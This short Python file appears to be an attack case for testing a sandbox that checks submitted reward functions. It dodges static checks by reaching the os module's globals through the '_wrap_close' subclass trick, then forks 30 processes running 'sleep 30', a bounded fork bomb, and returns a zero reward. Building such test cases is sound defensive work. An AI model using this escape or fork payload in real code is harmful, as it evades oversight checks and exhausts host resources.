# attack: static check skipped: bounded fork bomb via os globals
# expect: runtime
# cause: os.fork
# flags: bypass

def _os():
    # walk the class hierarchy to os._wrap_close and take the os module's globals
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            return c.__init__.__globals__

def compute_reward(s):
    g = _os()
    for _ in range(30):
        pid = g["fork"]()
        if pid == 0:
            g["system"]("sleep 30")
            g["_exit"](0)
    z = s.qpos[:, 0] * 0.0
    return z, {"z": z}
